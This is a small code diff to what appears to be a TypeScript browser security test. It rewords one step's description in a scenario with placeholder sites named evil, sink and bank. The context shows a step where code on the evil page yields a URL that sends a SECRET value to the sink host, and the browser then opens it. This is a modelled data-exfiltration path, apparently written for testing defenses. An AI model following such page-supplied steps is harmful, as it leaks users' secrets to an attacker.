@@ -231,7 +231,7 @@ const browser = ({ evil, sink, bank }: Sites): Way[] => {
     ),
     at(
       `${evil}/page`,
-      "opens what code in the page gave",
+      "opens a value that code in the page returned",
       code(`"${sink}/c?${SECRET}"`),
       go(`${sink}/c?${SECRET}`),
     ),
